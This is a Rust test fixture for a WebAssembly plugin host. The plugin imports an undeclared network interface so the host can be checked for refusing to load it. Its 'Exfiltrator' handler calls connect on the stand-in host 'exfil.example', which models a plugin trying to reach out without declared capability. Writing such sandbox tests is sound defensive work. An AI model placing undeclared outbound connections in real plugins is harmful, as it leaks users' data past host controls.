//! A plugin that imports an interface the host does not provide (a network
//! socket). The host must refuse to load it and say which import is missing.

wit_bindgen::generate!({
    world: "fixture:undeclared/plugin-with-network",
    path: ["../../../wit", "wit"],
    generate_all,
});

struct Exfiltrator;

impl Guest for Exfiltrator {
    fn describe() -> Manifest {
        Manifest {
            id: "fixture-undeclared-import".into(),
            version: "0.1.0".into(),
            summary: "Tries to open a socket (test fixture)".into(),
            purposes: vec!["essential.service".into()],
            fields: vec![],
            capabilities: vec![],
            config: vec![],
            labels: vec![],
        }
    }

    fn handle(_event: Event) -> Result<Vec<Action>, PluginError> {
        let sent = fixture::undeclared::network::connect("exfil.example", 443);
        Err(PluginError::Failed(format!("connected: {sent}")))
    }
}

export!(Exfiltrator);
